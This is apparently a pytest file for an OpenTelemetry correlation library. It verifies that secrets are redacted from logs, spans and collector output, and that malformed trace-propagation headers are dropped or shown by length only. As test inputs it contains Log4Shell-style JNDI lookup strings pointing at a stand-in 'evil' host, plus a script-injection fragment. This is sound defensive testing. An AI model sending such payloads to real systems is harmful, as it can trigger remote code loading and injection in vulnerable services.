"""No secret reaches a log line or a span; hostile baggage/tracestate never reaches a log raw.

The corpus test sends secrets in every place a request carries them through FastAPI under uvicorn
and Flask under gunicorn, exporting to a real collector with JSON logs to a file, and searches
everything written: the log file, the server's own stdout/stderr and the collector's dump of every
span, attribute and event it received.
"""

from __future__ import annotations

import json
import logging
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI

import otel_corr

from .collector import Collector
from .conftest import Capture, server_env
from .test_parity import _send

TRACEPARENT = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"
SECRETS = {
    "authorization": "Bearer SECRET-authz-7a1",
    "cookie": "session=SECRET-cookie-7a2; theme=dark",
    "x-internal-auth": "SECRET-internal-7a3",
    "baggage": "user.token=SECRET-baggage-7a4,plan=gold",
}
QUERY = "token=SECRET-token-7a5&password=SECRET-password-7a6&signature=SECRET-signature-7a7&page=2"
BODY = json.dumps({"user": "ada", "password": "SECRET-body-7a8"}).encode()
OPTIONS = {
    "sanitize_fields": ["x-internal-auth", "signature"],
    "capture_request_headers": [".*"],
    "capture_response_headers": [".*"],
    "access_log": True,
}


def _server(kind: str, start_uvicorn: Any, start_gunicorn: Any, env: dict[str, str]) -> Any:
    start = start_uvicorn if kind == "asgi" else start_gunicorn
    return start(env, f"tests.apps.parity_app:{kind}")


@pytest.mark.e2e
@pytest.mark.parametrize("kind", ["asgi", "wsgi"])
def test_no_secret_in_any_log_line_span_attribute_or_event(
    kind: str, tmp_path: Path, collector: Collector, start_uvicorn: Any, start_gunicorn: Any
) -> None:
    """Authorization, Cookie, custom secret headers, query fields, baggage and a JSON body: none written."""
    log = tmp_path / "app.jsonl"
    env = server_env(collector, PARITY_OPTIONS=json.dumps(OPTIONS), PARITY_LOG=str(log), OTEL_SERVICE_NAME=kind)
    server = _server(kind, start_uvicorn, start_gunicorn, env)
    headers = [(k, v) for k, v in SECRETS.items()] + [("traceparent", TRACEPARENT)]
    answers = [
        _send(server.port, b"GET", f"/ids?{QUERY}", headers, b""),
        _send(server.port, b"GET", f"/boom?{QUERY}", headers, b""),
        _send(server.port, b"POST", f"/login?{QUERY}", [*headers, ("Content-Type", "application/json")], BODY),
    ]
    assert [status for status, _, _ in answers] == [200, 500, 500]
    assert json.loads(answers[0][2])["baggage"] == {"user.token": "SECRET-baggage-7a4", "plan": "gold"}  # it arrived
    server.sigterm()  # flushes the spans
    spans = _spans(collector, kind)

    # Not vacuous: the requests were summarised, redacted, in every place this test searches.
    lines = [json.loads(line) for line in log.read_text().splitlines()]
    errors = [line for line in lines if line["logger"] == "otel_corr.error"]
    assert len(errors) == 2 and len([line for line in lines if line["logger"] == "otel_corr.access"]) == 3
    for error in errors:
        shown = error["request"]["headers"]
        assert {shown[name] for name in SECRETS} == {"[REDACTED]"}
        assert "token=REDACTED" in error["request"]["query"] and "page=2" in error["request"]["query"]
    assert len(spans) == 3 and all(
        s.attributes["http.request.header.x-internal-auth"] == "Str([REDACTED])" for s in spans
    )
    assert sum("exception" in s.events for s in spans) == 2

    written = {"log file": log.read_text(), "server output": server.output(), "collector": collector.log.read_text()}
    for secret in ("SECRET-authz", "SECRET-cookie", "SECRET-internal", "SECRET-baggage", "SECRET-token"):
        for where, text in written.items():
            assert secret not in text, f"{secret} in the {where}"
    for secret in ("SECRET-password", "SECRET-signature", "SECRET-body"):
        for where, text in written.items():
            assert secret not in text, f"{secret} in the {where}"


def _spans(collector: Collector, service: str) -> list[Any]:
    import time

    deadline = time.monotonic() + 15
    while True:
        spans = [s for s in collector.spans() if s.resource.get("service.name") == service]
        if len(spans) >= 3 or time.monotonic() > deadline:
            return spans
        time.sleep(0.1)


async def test_the_error_line_redacts_the_apps_sanitize_fields(
    capture: Capture, caplog: pytest.LogCaptureFixture
) -> None:
    """The issue's case: a header named in sanitize_fields is [REDACTED] on the span and in the ERROR line."""
    app = FastAPI()

    @app.get("/boom")
    async def boom() -> None:
        raise RuntimeError("boom")

    otel_corr.instrument(
        app,
        tracer_provider=capture.provider,
        sanitize_fields=["x-internal-auth"],
        capture_request_headers=["x-internal-auth"],
    )
    caplog.set_level(logging.ERROR, logger="otel_corr.error")
    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        r = await client.get("/boom?x-internal-auth=qs-secret", headers={"X-Internal-Auth": "hdr-secret"})
    assert r.status_code == 500
    assert capture.one().attributes["http.request.header.x-internal-auth"] == ("[REDACTED]",)
    (record,) = [rec for rec in caplog.records if rec.name == "otel_corr.error"]
    summary: dict[str, Any] = record.request  # type: ignore[attr-defined]
    assert summary["headers"]["x-internal-auth"] == "[REDACTED]"
    assert summary["query"] == "x-internal-auth=REDACTED"
    assert "qs-secret" not in caplog.text and "hdr-secret" not in caplog.text


async def test_the_error_line_shows_a_rejected_traceparent_by_its_length_only(
    capture: Capture, caplog: pytest.LogCaptureFixture
) -> None:
    """The request ID header was never logged raw, but a traceparent the propagator rejected was: an
    attacker's string in every error line.  A valid one is shown as sent."""
    app = FastAPI()

    @app.get("/boom")
    async def boom() -> None:
        raise RuntimeError("boom")

    otel_corr.instrument(app, tracer_provider=capture.provider)
    caplog.set_level(logging.ERROR, logger="otel_corr.error")
    hostile = "${jndi:ldap://evil/a}<script>x</script>"
    valid = "00-" + "ab" * 16 + "-" + "cd" * 8 + "-01"
    transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        await client.get("/boom", headers={"traceparent": hostile})
        await client.get("/boom", headers={"traceparent": valid})
    first, second = [rec.request["headers"] for rec in caplog.records if rec.name == "otel_corr.error"]  # type: ignore[attr-defined]
    assert first["traceparent"] == f"[not used: {len(hostile)} characters]"
    assert second["traceparent"] == valid
    assert "jndi" not in caplog.text and "<script>" not in caplog.text


# --- Hostile W3C carriers --------------------------------------------------------------

_JNDI = "${jndi:ldap://evil.example/a}"


@pytest.mark.e2e
@pytest.mark.parametrize("kind", ["asgi", "wsgi"])
def test_hostile_baggage_and_tracestate_never_reach_stderr_raw(
    kind: str, start_uvicorn: Any, start_gunicorn: Any
) -> None:
    """Malformed members (JNDI strings, an oversized header) are dropped before the SDK, which logs them raw."""
    # No PARITY_LOG: logging is left alone, so a library warning goes to stderr as it is.
    server = _server(kind, start_uvicorn, start_gunicorn, server_env(None, OTEL_TRACES_EXPORTER="none"))
    malformed = ",".join(f"{_JNDI}{i}" for i in range(200))  # ~6 KB: within the size limit, every member bad
    requests = [
        [("baggage", f"ok=1,{malformed}"), ("traceparent", TRACEPARENT), ("tracestate", f"k=v,{_JNDI}")],
        [("baggage", f"ok=1,bad={_JNDI} x"), ("traceparent", TRACEPARENT), ("tracestate", "k=v," + "a" * 600)],
        [("baggage", "ok=1," + "x" * 7000 + _JNDI)],  # one member over the header's per-entry bound
        [("baggage", ",".join(f"k{i}=v" for i in range(300)))],  # more members than W3C allows
    ]
    answers = [_send(server.port, b"GET", "/ids", headers, b"") for headers in requests]
    assert [status for status, _, _ in answers] == [200, 200, 200, 200]
    bodies = [json.loads(payload) for _, _, payload in answers]
    # What is well-formed still arrives; the caller's trace is kept.
    assert bodies[0]["baggage"] == {"ok": "1"} and bodies[0]["trace_id"] == TRACEPARENT[3:35]
    assert bodies[1]["baggage"] == {"ok": "1"}
    assert bodies[2]["baggage"] == {"ok": "1"}
    assert len(bodies[3]["baggage"]) == 180
    server.sigterm()
    output = server.output()
    assert "jndi" not in output
    assert max(map(len, output.splitlines()), default=0) < 500
    # Reported, by length only.
    assert "ignored an invalid baggage header" in output and "tracestate header" in output
